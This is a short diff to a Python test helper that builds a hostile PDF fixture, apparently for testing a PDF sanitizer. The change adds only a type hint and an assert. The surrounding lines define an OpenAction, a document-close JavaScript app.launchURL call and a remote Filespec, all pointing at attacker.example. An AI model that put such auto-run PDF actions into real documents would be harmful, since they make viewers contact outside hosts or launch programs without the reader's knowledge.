@@ -174,7 +174,7 @@ def _hostile_pdf() -> bytes:
     (/OpenAction), a /Launch of a program, /URI links, a /GoToR to a remote file and a page
     drawn from a remote file (/F with a URL); a valid cross-reference table."""
     remote = b"<< /Type /Filespec /FS /URL /F (http://attacker.example/remote.pdf) >>"
-    objects = [
+    objects: list[bytes | None] = [
         b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R"
         b" /AA << /WC << /S /JavaScript /JS (app.launchURL('http://attacker.example/closed');) >> >>"
         b" /Names << /JavaScript << /Names [(init) 4 0 R] >> >> >>",
@@ -201,6 +201,7 @@ def _hostile_pdf() -> bytes:
     out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
     offsets = []
     for number, body in enumerate(objects, start=1):
+        assert body is not None
         offsets.append(len(out))
         out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
     xref = len(out)
